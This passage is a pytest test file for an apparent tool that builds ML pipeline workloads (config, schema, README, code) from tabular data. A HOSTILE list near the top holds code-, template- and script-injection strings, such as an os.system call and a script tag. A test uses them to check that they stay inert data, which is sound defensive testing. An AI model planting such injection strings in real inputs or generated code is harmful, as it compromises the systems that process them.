import ast
import csv
import importlib.util
import json
import shlex
import subprocess
import sys
from dataclasses import replace
from functools import partial
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from google.protobuf import text_format
from tensorflow_metadata.proto.v0 import schema_pb2

from slipway.pipeline.config import load_workload
from slipway.pipeline.errors import UsageError
from slipway.pipeline.start.command import new
from slipway.pipeline.start.reading import read_table
from slipway.pipeline.start.writing import skew_limits
from slipway.pipeline.testing import transformed

HOSTILE = [
    'quote " and \\ backslash',
    '""" import os; os.system("touch pwned") """',
    "line\nbreak: [yaml]",
    "{{ 7 * 7 }} {% raw %}",
    "<script>alert(1)</script> | cell",
    "名前 é",
    "emoji 😀",
    "bell \x07, mark \ufeff, line \u2028, next \x85",
]


def _refuse(question, answers, *, option):
    raise UsageError(f"{question} This needs an answer, but there is no terminal.", hint=f"add {option}")


@pytest.fixture
def root(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "workloads").mkdir()
    (tmp_path / "workloads" / "__init__.py").write_text('"""Workloads."""\n')
    (tmp_path / "schemas").mkdir()
    return tmp_path


def _write(root, columns, rows=300, name="data.csv", delimiter=","):
    with (root / name).open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file, delimiter=delimiter)
        writer.writerow(columns)
        writer.writerows([[column(row) for column in columns.values()] for row in range(rows)])


NOISE = np.random.default_rng(3).normal(size=5000)
COLUMNS = {
    "id": lambda row: row + 1,
    "age": lambda row: round(40 + 10 * NOISE[row], 3),
    "plan": lambda row: ["basic", "pro", ""][row % 3],
    "signed up": lambda row: f"2024-0{1 + row % 9}-1{row % 10} 0{row % 10}:30",
    "churned": lambda row: ["no", "yes"][int(NOISE[row + 300] > 0)],
}


def _code(row):
    """Return 0 to 7; every other row's is odd if it churned, and so the label changes unevenly with it."""
    return 2 * (row % 4) + (row % 2 and int(NOISE[row + 300] > 0))


def _begin(root, name="customers", ask=_refuse, **options):
    given = {"data": "data.csv", "label": "churned", "task": "auto", "keep": (), **options}
    return new(name, root=root, ask=ask, **given)


def test_a_table_that_is_not_read_to_its_end_is_not_given_out_as_whole(root, monkeypatch):
    _write(root, COLUMNS)
    few = partial(read_table, most_rows=100)
    monkeypatch.setattr("slipway.pipeline.start.command.read_table", few)
    first = _begin(root).text().splitlines()[0]
    assert first == f"{len(COLUMNS)} columns. Only the first 300 rows were looked at."  # a block at a time
    text = (root / "schemas/customers.pbtxt").read_text(encoding="utf-8")
    schema = text_format.Parse(text, schema_pb2.Schema())
    assert [each.name for each in schema.string_domain] == ["churned"], "others may follow"


def test_a_table_becomes_a_workload_that_loads(root):
    _write(root, COLUMNS)
    begun = _begin(root)
    config = load_workload(root / "workloads/customers/workload.yaml", root=root)
    assert config.data.columns == ("age", "plan", "signed up", "churned")
    assert config.data.source == "data.csv"
    assert config.transform.label == "churned"
    assert config.description == "Predicts churned from 3 columns."
    assert "id                left out" in begun.text() or "id         left out" in begun.text()
    assert "hint: " in begun.text().splitlines()[-1]


def test_delimiters_at_the_end_of_rows_are_reported_and_make_no_column(root):
    _write(root, {**COLUMNS, "": lambda row: ""})
    text = (root / "data.csv").read_text(encoding="utf-8")
    (root / "data.csv").write_text(text.replace("churned,", "churned", 1), encoding="utf-8")
    begun = _begin(root)
    assert f"300 rows, {len(COLUMNS)} columns." in begun.text()
    assert "Rows end with a delimiter and nothing after it, which adds no column." in begun.text()


def test_bytes_that_are_text_in_nearly_all_rows_are_read_as_text_by_the_run_too(root):
    remarks = [f"remark {row % 7}".encode() for row in range(300)]
    remarks[12] = b"caf\xe9"
    labels = [COLUMNS["churned"](row) for row in range(300)]
    pq.write_table(pa.table({"remark": remarks, "churned": labels}), root / "data.parquet")
    begun = _begin(root, data="data.parquet")
    assert "1 row cannot be read: a run quarantines it. The first: " in begun.text()
    assert "data.parquet at 12, column remark: not valid text" in begun.text()
    config = load_workload(root / "workloads/customers/workload.yaml", root=root)
    assert config.data.types == {"remark": "text"}


def test_only_the_notations_of_columns_that_a_run_reads_are_written_down(root):
    seen = {"price": lambda _: "$5.00", "opened": lambda _: "31.01.2024"}  # the same in every row
    used = {
        "paid": lambda row: f"$1,{100 + row}.50",
        "left": lambda row: f"{row % 28 + 1:02}.0{row % 9 + 1}.2024",
    }
    _write(root, {**COLUMNS, **seen, **used})
    _begin(root)
    data = load_workload(root / "workloads/customers/workload.yaml", root=root).data
    assert (set(data.numbers), set(data.dates)) == ({"paid"}, {"left"})
    readme = (root / "workloads/customers/README.md").read_text(encoding="utf-8")
    assert "Requests to a served model hold them as YYYY-MM-DD, or YYYY-MM-DD HH:MM:SS: left." in readme
    assert "but plain ones, such as 1234.5: paid." in readme


def test_the_notation_of_the_column_that_decides_the_split_is_written_down(root):
    group = {"visit no": lambda row: f"{1000 + row // 2:,}"}
    _write(root, {"age": COLUMNS["age"], **group, "churned": COLUMNS["churned"]})
    _begin(root)
    data = load_workload(root / "workloads/customers/workload.yaml", root=root).data
    assert data.split_by.key == "visit no"
    assert "visit no" in data.columns
    assert set(data.numbers) == {"visit no"}


def test_ids_beyond_64_bits_that_decide_the_split_are_read_as_text_by_the_run_too(root):
    ids = pa.array([2**63 + row for row in range(300)], pa.uint64())
    columns = {name: [COLUMNS[name](row) for row in range(300)] for name in ("age", "churned")}
    pq.write_table(pa.table({"user_id": ids, **columns}), root / "data.parquet")
    _begin(root, data="data.parquet")
    data = load_workload(root / "workloads/customers/workload.yaml", root=root).data
    assert (data.split_by.key, data.types) == ("user_id", {"user_id": "text"})


@pytest.mark.parametrize(("columns", "limits"), [(100, (120, 60)), (250, (300, 150))])
def test_wide_table_gets_the_time_that_its_vocabularies_take_to_load(root, columns, limits):
    wide = {
        f"c{number}": lambda row, n=number: "abc"[(row * (1 + n % 2) + n) % 3] for number in range(columns)
    }
    _write(root, {**wide, "churned": COLUMNS["churned"]})
    _begin(root)
    serving = load_workload(root / "workloads/customers/workload.yaml", root=root).evaluate.serving
    assert (serving.limit_s, serving.max_load_s) == limits


def test_the_schema_says_what_was_seen(root):
    _write(root, COLUMNS)
    _begin(root)
    text = (root / "schemas/customers.pbtxt").read_text(encoding="utf-8")
    schema = text_format.Parse(text, schema_pb2.Schema())
    features = {feature.name: feature for feature in schema.feature}
    assert list(features) == ["age", "plan", "signed up", "churned"]
    assert features["age"].shape.dim[0].size == 1
    assert features["plan"].value_count.max == 1
    assert list(features["churned"].not_in_environment) == ["SERVING"]
    assert {domain.name: list(domain.value) for domain in schema.string_domain} == {
        "plan": ["basic", "pro"],
        "churned": ["no", "yes"],
    }


def test_whatever_stands_in_names_and_values_stays_data(root):
    columns = {name: (lambda row, k=k: [*HOSTILE, "x"][(row + k) % 9]) for k, name in enumerate(HOSTILE)}
    _write(root, {**columns, "la`bel\r\n| x": COLUMNS["churned"]}, rows=900)
    begun = _begin(root, label="la`bel\r\n| x")
    config = load_workload(root / "workloads/customers/workload.yaml", root=root)
    assert set(config.data.columns) == {*columns, "la`bel\r\n| x"}
    schema = text_format.Parse(
        (root / "schemas/customers.pbtxt").read_text(encoding="utf-8"), schema_pb2.Schema()
    )
    assert {feature.name for feature in schema.feature} == set(config.data.columns)
    assert all(set(domain.value) <= {*HOSTILE, "x", "no", "yes"} for domain in schema.string_domain)
    for path in begun.files:
        if path.endswith(".py"):
            ast.parse((root / path).read_text(encoding="utf-8"))
    readme = (root / "workloads/customers/README.md").read_text(encoding="utf-8")
    assert "<script>" not in readme


@pytest.mark.parametrize(
    "parts", [(), ("tags",), ("prices",), ("face",), ("note",), ("wide",), ("tags", "prices", "face", "note")]
)
def test_the_code_needs_no_formatter(root, project, parts):
    _write(root, COLUMNS)
    _begin(root)
    if parts:
        words = [" ".join(f"word{row * n % 997}" for n in range(90)) for row in range(300)]
        more = [
            {"note": note, "wide": [n / 3 for n in range(row, row + 64)]} for row, note in enumerate(words)
        ]
        rows = [each | other for each, other in zip(_list_rows(), more, strict=True)]
        rows = [{name: each[name] for name in (*parts, "churned")} for each in rows]
        (root / "data.jsonl").write_text("\n".join(map(json.dumps, rows)))
        _begin(root, name="lists", data="data.jsonl")
    ours = 'lint.isort.known-first-party = ["slipway", "workloads"]'
    config = ["--config", str(project / "pyproject.toml"), "--config", ours, "--ignore", "INP001"]
    done = subprocess.run(
        [sys.executable, "-m", "ruff", "check", *config],
        cwd=root,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stdout
    if "note" in parts:
        test = (root / "tests/unit/workloads/test_lists.py").read_text()
        assert '"note": ["word0 word1 word2 word3 word4 word5 word6 word7 word8 word9"],' in test
        assert "and long texts are cut." in test


@pytest.mark.parametrize(
    ("values", "metric"),
    [
        (lambda row: ["a", "b", "c"][row % 3], "sparse_categorical_accuracy"),
        (lambda row: 100 + NOISE[row + 900], "root_mean_squared_error"),
    ],
)
def test_the_label_decides_over_metrics(root, values, metric):
    _write(root, {**COLUMNS, "churned": values})
    _begin(root)
    config = load_workload(root / "workloads/customers/workload.yaml", root=root)
    assert config.evaluate.metrics[0] == metric


@pytest.mark.parametrize(
    ("values", "classes"),
    [
        (lambda row: row % 2, {}),
        (lambda row: ["a", "b", "c"][row % 3], {"classes": 3}),
        (lambda row: 100 + NOISE[row + 900], {"classes": None}),
    ],
)
def test_boosted_trees_are_trained_and_a_profile_trains_the_network(root, values, classes):
    _write(root, {**COLUMNS, "churned": values})
    _begin(root)
    file = root / "workloads/customers/workload.yaml"
    trees = load_workload(file, root=root).train
    network = load_workload(file, profile="network", root=root).train
    assert trees.model == "slipway.components.trainer.models.boosted_trees.build_model"
    assert trees.hyperparameters == classes
    assert network.model == "workloads.customers.model.build_model"
    assert ("label_mean" in network.hyperparameters) is (classes == {"classes": None})
    assert "100." not in (root / "workloads/customers/model.py").read_text(), "the label's mean is no code"
    assert "learning_rate" in network.hyperparameters


def test_few_rows_get_a_linear_model_and_many_hidden_layers(root):
    _write(root, COLUMNS)
    _begin(root)
    _write(root, COLUMNS, rows=2500, name="data.csv")
    _begin(root, name="more")
    unlabelled = {**COLUMNS, "churned": lambda row: COLUMNS["churned"](row) if row % 10 == 0 else ""}
    _write(root, unlabelled, rows=2500, name="data.csv")
    begun = _begin(root, name="unlabelled")
    few, many, with_few_labels = (
        load_workload(root / f"workloads/{name}/workload.yaml", profile="network", root=root)
        for name in ("customers", "more", "unlabelled")
    )
    assert few.train.hyperparameters["hidden_units"] == []
    assert with_few_labels.train.hyperparameters["hidden_units"] == []
    assert any(note.startswith("250 rows with churned are few: ") for note in begun.plan.notes)
    assert "hidden_units" not in many.train.hyperparameters


def test_a_semicolon_is_found(root):
    _write(root, COLUMNS, delimiter=";")
    _begin(root)
    assert load_workload(root / "workloads/customers/workload.yaml", root=root).data.delimiter == ";"


@pytest.mark.parametrize(("delimiter", "quote"), [(" ", '"'), (",", "'"), (";", "'")])
def test_spaces_and_single_quotes_are_found(root, delimiter, quote):
    header = delimiter.join(f"{quote}{name}{quote}" for name in COLUMNS)
    names = ["no", "yes"]
    rows = [
        delimiter.join(
            [str(row), str(NOISE[row]), f"{quote}x{delimiter}{row % 3}{quote}", "2024", names[row % 2]]
        )
        for row in range(60)
    ]
    (root / "data.csv").write_text("\n".join([header, *rows, ""]))
    begun = _begin(root)
    assert begun.rejected == 0
    assert begun.plan.label.distinct == 2
    data = load_workload(root / "workloads/customers/workload.yaml", root=root).data
    assert (data.delimiter, data.quote) == (delimiter, quote)
    assert ("Fields are quoted with apostrophes" in begun.text()) == (quote == "'")


def test_a_first_column_without_a_name_is_the_index_and_decides_over_the_split(root):
    _write(root, {"": lambda row: row, **{name: COLUMNS[name] for name in ("age", "plan", "churned")}})
    begun = _begin(root)
    assert "left out  the row index: this column has no name in the file" in begun.text()
    data = load_workload(root / "workloads" / "customers" / "workload.yaml", root=root).data
    assert data.split_by.key == "(index)"
    assert data.columns == ("age", "plan", "churned")


def test_a_column_named_as_pandas_names_an_index_is_called_so(root):
    _write(root, {"__index_level_0__": lambda row: row, **COLUMNS})
    assert "left out  the row index: pandas calls it so" in _begin(root).text()


def test_what_may_be_written_in_several_ways_is_told(root):
    zones = ["+01:00", "+02:00", "Z"]
    other = {
        "city": lambda row: ["Bonn", "bonn", "Ulm"][row % 3],
        "seen": lambda row: f"2024-0{1 + row % 9}-11T0{row % 10}:30:00{zones[row % 3]}",
    }
    _write(root, {**COLUMNS, **other})
    told = _begin(root).text()
    assert "\ncity 'Bonn' and 'bonn' are different categories: spell them the same if they mean" in told
    assert "\nseen holds times of several time zones (+0000, +0100, +0200): of each, the time of day" in told


def test_a_label_that_is_another_whole_number_in_every_row_may_be_an_id(root):
    _write(root, COLUMNS)
    assert "\nid holds another whole number in every row, as ids do." in _begin(root, label="id").text()
    assert "in every row, as ids do" not in _begin(root, "ages", label="age").text()


def test_dates_as_the_index_of_a_table_decide_over_the_split(root):
    days = [str(day) for day in np.arange("2023-01-01", "2024-01-01", dtype="datetime64[D]")]
    _write(root, {"": lambda row: days[row], "age": COLUMNS["age"], "churned": COLUMNS["churned"]})
    assert "split by time" in _begin(root).text()


def test_a_source_that_grows_by_spans_keeps_them_and_is_not_split_at_a_moment_of_the_latest(root):
    days = [str(day) for day in np.arange("2023-01-01", "2024-01-01", dtype="datetime64[D]")]
    (root / "2023").mkdir()
    columns = {"": lambda row: days[row], "age": COLUMNS["age"], "churned": COLUMNS["churned"]}
    _write(root, columns, name="2023/data.csv")
    begun = _begin(root, data="{SPAN}/*.csv")
    data = load_workload(root / "workloads/customers/workload.yaml", root=root).data
    assert data.source == "{SPAN}/*.csv"
    assert "split by time" not in begun.text()
    assert data.split_by is None or data.split_by.time is None


def test_a_later_column_without_a_name_is_refused(root):
    _write(root, {"age": COLUMNS["age"], "": COLUMNS["id"], "churned": COLUMNS["churned"]})
    with pytest.raises(UsageError, match="column 2 has no name") as caught:
        _begin(root)
    assert "name it in the header" in caught.value.hint


def test_a_number_that_may_stand_for_no_value_is_reported_and_becomes_none_where_asked(root):
    _write(root, COLUMNS | {"age": lambda row: row % 41 if row % 9 else ["-999.0", -999][row % 2]})
    told = _begin(root).text()
    assert "age holds -999 in 34 rows, far from its other values." in told
    assert "start again with --null-value=-999" in told
    begun = _begin(root, "again", null_values=["-999"])
    assert "age holds" not in begun.text()
    age = next(d.facts for d in begun.plan.decisions if d.facts.name == "age")
    assert (age.missing, age.least) == (34, 0)
    assert load_workload(root / "workloads/again/workload.yaml", root=root).data.null_values == (
        "-999",
        "-999.0",
        "-999.00",
    )


def test_a_lone_negative_number_is_reported_also_where_it_is_a_category(root):
    counts = {"visits": lambda row: row % 41 if row % 9 else -1, "level": lambda row: _code(row) - 1}
    _write(root, COLUMNS | counts)
    told = _begin(root).text()
    either = "-1 in {} rows, and no other number below 0. If it means a missing value, start again with {}"
    remedy = "--null-value=-1, if no other column has it as a number, or empty these cells; otherwise it is"
    assert f"visits holds {either.format(34, remedy)} treated as a number." in told
    assert f"level holds {either.format(75, remedy)} treated as a category of its own." in told


def test_a_label_that_may_not_be_known_is_reported_once(root):
    _write(root, COLUMNS | {"grade": lambda row: row % 8 - 1})
    told = _begin(root, label="grade", task="multiclass").text()
    assert (
        told.count("grade -1 (38 rows) is a class of its own. If it means that the answer is not known") == 1
    )
    assert "grade holds -1" not in told


def test_a_date_that_may_stand_for_no_value_is_reported_and_does_not_decide_the_split(root):
    def ended(row):
        return "9999-12-31" if row % 3 else f"2024-{1 + row % 12:02}-{1 + row % 28:02}"

    _write(root, COLUMNS | {"end_date": ended})
    told = _begin(root).text()
    assert "end_date holds 9999-12-31 in" in told
    assert "start again with --null-value=9999-12-31; otherwise it is treated as a date." in told
    assert "split by time" not in told
    again = _begin(root, "again", null_values=["9999-12-31"])
    assert "end_date holds" not in again.text()
    assert next(d.facts for d in again.plan.decisions if d.facts.name == "end_date").missing > 0
    _write(root, COLUMNS | {"end_date": lambda row: ".".join(ended(row).split("-")[::-1])})
    assert "with --null-value and the date as the file writes it" in _begin(root, "third").text()


def test_a_class_that_is_a_word_for_no_value_is_reported_and_becomes_none_where_asked(root):
    _write(root, COLUMNS | {"churned": lambda row: "?" if row % 4 == 0 else ["no", "yes"][row % 2]})
    assert "churned '?' (" in _begin(root).text()
    again = _begin(root, "again", null_values=["?"])
    assert again.plan.task == "binary"
    assert "rows have no churned" in again.text()


def test_a_class_that_is_no_value_in_a_column_of_numbers_is_reported(root):
    hours = {"hours": lambda row: "none" if row % 10 == 0 else row}
    states = {"state": lambda row: ("none", "mild", "severe")[row % 3]}
    _write(root, COLUMNS | hours | states)
    text = _begin(root, label="state").text()
    assert "100 of 300 rows have no state" in text
    assert "state 'none' is read as no value, as in hours. If it" in text


def test_a_null_value_is_for_the_texts_of_a_csv(root):
    (root / "rows.jsonl").write_text('{"a": -999, "b": 1}\n' * 30)
    with pytest.raises(UsageError, match="--null-value -999: only the cells of a CSV are text"):
        _begin(root, data="rows.jsonl", label="b", null_values=["-999"])


def test_the_probability_is_that_of_yes_in_other_languages_and_told(root):
    _write(root, COLUMNS | {"churned": lambda row: ["ja", "nein"][int(NOISE[row + 300] > 0)]})
    assert "To predict: churned, the probability that it is ja, not nein." in _begin(root).text()
    config = load_workload(root / "workloads/customers/workload.yaml", root=root)
    assert config.transform.classes == ("nein", "ja")
    assert 'CLASSES = ["nein", "ja"]' in (root / "workloads/customers/preprocessing.py").read_text()


def test_a_percentage_is_a_number_however_often_it_recurs(root):
    loads = {"load": lambda row: f"{_code(row)}%", "lines": _code}
    _write(root, {**COLUMNS, **loads})
    decided = {each.facts.name: each.role for each in _begin(root).plan.decisions}
    assert (decided["load"], decided["lines"]) == ("number", "category")


def test_whole_numbers_are_told_to_be_amounts_or_codes_by_the_label(root):
    _write(root, {**COLUMNS, "calls": lambda row: row % 9, "line": _code})
    told = _begin(root).text()
    assert "numbers from 0 to 8; nothing in churned shows that they are codes" in told
    assert "which may be a code: churned does not change evenly with them" in told


def test_durations_are_numbers(root):
    lasted = {"lasted": lambda row: f"{row % 3}:{row % 60:02}:{row % 59:02}"}
    _write(root, {**COLUMNS, **lasted})
    assert "read as" in _begin(root).text()
    data = load_workload(root / "workloads/customers/workload.yaml", root=root).data
    assert data.numbers["lasted"].clock
    assert 'name: "lasted"\n  type: INT' in (root / "schemas/customers.pbtxt").read_text()


LABELS = pytest.mark.parametrize("labels", [["no", "yes"], ["a", "b", "c"], [1.5, 2.25, 7.0]])


@LABELS
def test_where_time_splits_the_trees_hold_out_neighbours_and_the_network_takes_it(root, labels):
    _write(root, {"sold_on": lambda row: f"2024-{row // 28 + 1:02}-{row % 28 + 1:02}", **COLUMNS,
                  "churned": lambda row: labels[int(NOISE[row] * 1e6) % len(labels)]})  # fmt: skip
    assert "by time" in _begin(root).text()
    path = root / "workloads/customers/workload.yaml"
    for profile in (None, "network"):
        train = load_workload(path, profile=profile, root=root).train
        assert train.hyperparameters["held_out"] == "blocks"
    model = ast.parse((root / "workloads/customers/model.py").read_text())
    assert "held_out: str = 'blocks'" in ast.unparse(model)


@LABELS
@pytest.mark.parametrize(
    "persons", [lambda row: f"p{row // 4}", lambda row: 1000 + row // 4, lambda row: f"p{row // 15}"]
)
def test_where_groups_are_split_they_are_told_to_the_trees_and_are_in_no_request(root, labels, persons):
    own = {"Person no.": persons}
    _write(root, {**own, **COLUMNS, "churned": lambda row: labels[int(NOISE[row] * 1e6) % len(labels)]})
    assert "stay together" in _begin(root).text()
    config = load_workload(root / "workloads/customers/workload.yaml", root=root)
    assert (config.data.split_by.key, config.transform.group) == ("Person no.",) * 2
    assert "Person no." in config.data.columns
    assert "held_out" not in config.train.hyperparameters
    schema = text_format.Parse((root / "schemas/customers.pbtxt").read_text(), schema_pb2.Schema())
    [person] = [each for each in schema.feature if each.name == "Person no."]
    assert person.not_in_environment == ["SERVING"]
    assert not person.domain, "the next rows are of other persons"
    code = (root / "workloads/customers/preprocessing.py").read_text()
    assert 'GROUP = "Person no."' in code
    test = (root / "tests/unit/workloads/test_customers.py").read_text()
    assert 'label="churned", pass_through=["Person no."]\n' in test


def test_rows_that_are_split_one_by_one_are_held_out_so(root):
    _write(root, COLUMNS)
    _begin(root)
    assert "held_out" not in (root / "workloads/customers/workload.yaml").read_text()


def test_json_lines_are_read(root):
    rows = [{name: column(row) for name, column in COLUMNS.items()} for row in range(300)]
    (root / "data.jsonl").write_text("\n".join(map(json.dumps, rows)), encoding="utf-8")
    _begin(root, data="data.jsonl")
    assert load_workload(root / "workloads/customers/workload.yaml", root=root).data.format == "jsonl"


def test_nothing_is_ever_overwritten(root):
    _write(root, COLUMNS)
    _begin(root)
    before = {path: path.read_bytes() for path in root.rglob("*") if path.is_file()}
    with pytest.raises(UsageError, match="already exist; nothing is written"):
        _begin(root)
    assert {path: path.read_bytes() for path in root.rglob("*") if path.is_file()} == before


def test_hint_beside_files_that_exist_makes_room_for_them_to_be_written_anew(root):
    _write(root, COLUMNS)
    _begin(root)
    first = {path: path.read_bytes() for path in root.rglob("*") if path.is_file()}
    with pytest.raises(UsageError) as refused:
        _begin(root)
    program, *files = shlex.split(refused.value.hint.partition("edited: ")[2])
    assert program == "rm"
    for file in files:
        Path(file).unlink()
    _begin(root)
    assert {path: path.read_bytes() for path in root.rglob("*") if path.is_file()} == first


@pytest.mark.parametrize(
    ("options", "words"),
    [
        ({"name": "big-name"}, "is not a valid workload name"),
        ({"data": "nope.csv"}, "nope.csv does not exist"),
        ({"label": "chrned"}, "has no column 'chrned'; there are: id, age"),
        ({"keep": ["agee"]}, "has no column 'agee'"),
        ({"task": "clustering"}, "--task clustering is not one of auto, binary"),
        ({"data": "workloads/__init__.py"}, "no file whose name ends in"),
        ({"label": None}, "Which column do you want to predict"),
    ],
)
def test_what_cannot_be_is_refused_and_leaves_nothing(root, options, words):
    _write(root, COLUMNS)
    with pytest.raises(UsageError, match=words):
        _begin(root, **options)
    assert not (root / "workloads/customers").exists()


def test_who_is_there_is_asked(root):
    asked = []

    def ask(question, answers, *, option):
        asked.append(question)
        return "churned" if "churned" in answers else "regression"

    _write(root, {**COLUMNS, "churned": lambda row: 3 + 2 * (row % 4)})
    begun = _begin(root, label=None, ask=ask)
    assert len(asked) == 2
    assert begun.plan.task == "regression"


def test_rows_that_cannot_be_read_do_not_stop_the_first_run(root):
    _write(root, COLUMNS)
    with (root / "data.csv").open("a", encoding="utf-8") as file:
        file.write("one field too few\n" * 3)
    begun = _begin(root)
    assert begun.rejected == 3
    told = "a run quarantines them. The first: "
    assert f"\n3 rows cannot be read: {told}" in begun.text()
    assert "data.csv line 302: too few fields (1 fields, not 5): one field too few\n" in begun.text()
    assert "\n1 row cannot be read: a run quarantines it." in replace(begun, rejected=1).text()
    assert load_workload(root / "workloads/customers/workload.yaml", root=root).data.max_bad_share == 0.02


def _one(value):
    return lambda _: value


def _number(row):
    return round(float(NOISE[row]), 3)


TABLES = {
    "one column": ({"y": lambda row: row % 2}, "there is no other", "add columns to the file"),
    "no label in any row": ({"a": _number, "y": _one("")}, "y is empty", "--label"),
    "one class": ({"a": _number, "y": _one("yes")}, "the same in every row, yes", "--label"),
    "ids only": ({"an id": lambda row: row, "y": lambda row: row % 2}, "No column is left", "--keep 'an id'"),
    "no names": ({"0.5": _number, "1": lambda row: row % 2}, "has no column 'y'", "put a line with names"),
    "another name": ({"a": _number, "yy": lambda row: row % 2}, "has no column 'y'", "the nearest is 'yy'"),
    "infinite": ({"a": _number, "y": lambda row: "inf" if row == 3 else row / 7}, "32-bit", "empty these"),
}


@pytest.mark.parametrize(("columns", "words", "hint"), TABLES.values(), ids=TABLES)
def test_tables_that_nothing_can_be_learned_from_are_refused_with_a_remedy(root, columns, words, hint):
    _write(root, columns, rows=60)
    with pytest.raises(UsageError, match=words) as refused:
        _begin(root, label="y")
    assert hint in refused.value.hint
    assert not (root / "workloads/customers").exists()


@pytest.mark.parametrize(("rows", "words"), [(1, "1 row is too few"), (2, "2 rows are too few")])
def test_one_or_two_rows_are_too_few(root, rows, words):
    _write(root, {"a": _number, "y": lambda row: row % 2}, rows=rows)
    with pytest.raises(UsageError, match=words):
        _begin(root, label="y")


def test_rows_that_cannot_be_read_are_reported_where_the_others_are_too_few(root):
    (root / "data.jsonl").write_text('{"a": 1, "y": 0}\n{"a": 2, "y": \n', encoding="utf-8")
    with pytest.raises(UsageError, match="1 row is too few") as refused:
        _begin(root, data="data.jsonl", label="y")
    assert "1 row cannot be read; the first: " in refused.value.message
    assert "data.jsonl line 2: broken JSON" in refused.value.message


def test_a_header_that_a_run_would_refuse_is_refused_here(root):
    (root / "data").mkdir()
    for name, header in (("a.csv", "a,y"), ("b.csv", "b,y")):
        rows = (f"{row / 7},{row % 2}" for row in range(30))
        (root / "data" / name).write_text("\n".join([header, *rows]), encoding="utf-8")
    with pytest.raises(UsageError, match="has a different header from"):
        _begin(root, data="data", label="y")
    assert not (root / "workloads/customers").exists()


def test_a_broken_first_row_is_left_for_the_quarantine(root):
    rows = ["1,2,3", *(f"{row / 7},{row % 2}" for row in range(30))]
    (root / "data.csv").write_text("\n".join(["a,y", *rows]), encoding="utf-8")
    _begin(root, label="y")
    assert (root / "workloads/customers").exists()


def test_the_first_row_that_cannot_be_read_is_reported_where_all_are_such(root):
    (root / "data.csv").write_text("a,y\n1\n2\n", encoding="utf-8")
    with pytest.raises(UsageError, match="the first row has 1 value, the header 2 names"):
        _begin(root, label="y")
    (root / "data.csv").write_text("a,y\n1,2\n", encoding="utf-8")
    (root / "data.jsonl").write_text('{"a": {"b": 1}}\n', encoding="utf-8")
    with pytest.raises(UsageError, match="holds no object that can be read as a row") as refused:
        _begin(root, label="y", data="data.jsonl")
    assert "data.jsonl line 1: nested JSON" in refused.value.message


def test_names_that_differ_in_signs_only_make_two_features(root):
    _write(root, {"a,b": _number, "a.b": lambda row: _number(row + 9), "churned": COLUMNS["churned"]})
    features = {d.facts.name: d.feature for d in _begin(root).plan.decisions}
    assert features == {"a,b": "a_b", "a.b": "a_b_2", "churned": "churned"}


def test_a_column_that_is_left_out_or_the_label_may_be_called_like_a_feature(root):
    _write(root, {"a,b": _number, "a.b": _one("same"), "a_b": COLUMNS["churned"]})
    assert _begin(root, label="a_b").plan.label.name == "a_b"


def test_a_column_that_gives_the_label_away_passes_the_data_gate_when_it_is_kept(root):
    churned = COLUMNS["churned"]
    _write(root, {**COLUMNS, 're"fund 😀': lambda row: [1, 5][int(churned(row) == "yes")] + row / 1e4})
    begun = _begin(root, keep=['re"fund 😀', "age"])
    gate = load_workload(root / "workloads/customers/workload.yaml", root=root).data_gate
    limits = {name: each.max_label_score for name, each in gate.features.items()}
    assert limits == {'re"fund 😀': 1}, "of the only one that the gate would stop at"
    assert gate.max_skew_l_infinity > 0.1, "the limits for few rows stand beside it"
    assert 'Gives churned away, but is kept: re"fund 😀 (predicts it alone' in begun.text()
    text = (root / "workloads/customers/workload.yaml").read_text(encoding="utf-8")
    assert "kept by --keep (predicts it alone" in text


def test_a_kept_leak_of_many_rows_has_a_data_gate_of_its_own(root):
    codes = np.random.default_rng(4).integers(0, 2, size=8000)
    columns = {"refund": lambda row: codes[row] + row / 1e5, "churned": lambda row: ["no", "yes"][codes[row]]}
    _write(root, columns, rows=8000)
    _begin(root, keep=["refund"])
    text = (root / "workloads/customers/workload.yaml").read_text(encoding="utf-8")
    assert "\ndata_gate:\n  features:\n" in text
    config = load_workload(root / "workloads/customers/workload.yaml", root=root)
    assert config.data_gate.features["refund"].max_label_score == 1


@pytest.mark.parametrize(("column", "passed"), [("weight", ()), ("Weight (kg)", ("Weight (kg)",))])
def test_a_weight_is_no_feature_and_in_no_request(root, column, passed):
    _write(root, {**COLUMNS, column: lambda row: 1 + row % 5})
    begun = _begin(root, weight=column)
    config = load_workload(root / "workloads/customers/workload.yaml", root=root)
    feature = config.transform.weight
    assert feature == ("weight" if not passed else "weight_kg")
    assert (config.transform.pass_through, config.data.columns[-1]) == (passed, column)
    schema = (root / "schemas/customers.pbtxt").read_text(encoding="utf-8")
    parsed = text_format.Parse(schema, schema_pb2.Schema())
    apart = [each.name for each in parsed.feature if each.not_in_environment]
    assert apart == ["churned", column]
    code = (root / "workloads/customers/preprocessing.py").read_text(encoding="utf-8")
    assert f'features["{feature}"] = weight / tft.mean(weight)' in code
    test = (root / "tests/unit/workloads/test_customers.py").read_text(encoding="utf-8")
    assert f'label="churned", weight="{feature}"\n' in test
    for text in (code, test):
        ast.parse(text)
    assert "weight    the weight of each row, from 1 to 5" in begun.text()


@pytest.mark.parametrize(
    ("column", "values", "options", "words"),
    [
        ("w", lambda row: row - 1, {}, "this column holds -1, but weights must be finite and >= 0"),
        ("w", lambda row: row, {"keep": ["w"]}, "is also a feature by --keep"),
        ("w", lambda row: row, {"weight": "churned"}, "this column is the column to predict"),
        ("w", lambda row: row, {"weight": "v"}, "has no column 'v'"),
    ],
)
def test_a_column_that_no_row_can_be_weighed_by_is_refused(root, column, values, options, words):
    _write(root, {**COLUMNS, column: values})
    with pytest.raises(UsageError, match=words):
        _begin(root, **{"weight": column, **options})


def test_a_weight_decides_no_split_however_it_is_called(root):
    _write(root, {**COLUMNS, "id": COLUMNS["age"], "number": lambda row: 1 + row // 3})
    begun = _begin(root, weight="number")
    config = load_workload(root / "workloads/customers/workload.yaml", root=root)
    assert config.transform.weight == "number"
    assert begun.split.by != {"key": "number"}


def test_groups_stay_features_where_only_the_weight_would_be_left(root):
    user = lambda row: f"u{row // 3}"  # noqa: E731
    _write(root, {"user": user, "w": lambda row: 1 + row % 5, "churned": COLUMNS["churned"]})
    roles = {each.facts.name: each.role for each in _begin(root, weight="w", keep=[]).plan.decisions}
    assert roles == {"user": "category", "w": "weight", "churned": "label"}


def _preprocessing(root):
